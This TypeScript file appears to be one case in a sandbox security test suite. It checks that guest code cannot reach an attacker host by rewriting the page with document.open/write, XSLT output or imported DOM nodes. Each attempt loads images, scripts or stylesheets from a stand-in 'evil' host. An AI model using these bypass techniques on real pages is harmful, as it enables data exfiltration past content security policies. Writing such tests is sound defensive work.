import type { Attack } from '../attack.ts';

export const attack: Attack = {
  id: '106',
  group: 'exfiltration',
  title: 'start over with document.open and document.write, XSLT and a fresh DOM, outside of what was checked',
  expected: '0 hits: whatever document it is, it is in the same frame under the same policy',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }) {
    const page = (how: string): string =>
      `<img src="${evil}/106/${how}-image"><script src="${evil}/106/${how}-script"></script><link rel="stylesheet" href="${evil}/106/${how}-style">`;
    const style = new DOMParser().parseFromString(
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><img src="${evil}/106/xslt"/></xsl:template></xsl:stylesheet>`,
      'application/xml',
    );
    try {
      const processor = new XSLTProcessor();
      processor.importStylesheet(style);
      document.body.append(processor.transformToFragment(style, document));
    } catch {
      // Not every browser still has XSLT.
    }
    const imported = document.importNode(new DOMParser().parseFromString(page('import'), 'text/html').body, true);
    document.body.append(...imported.childNodes);
    const write: unknown = Reflect.get(document, 'write');
    document.open();
    if (typeof write === 'function') write.call(document, page('write'));
    document.close();
    await pause(800);
    return document.body !== null;
  },
  judge: () => undefined,
};
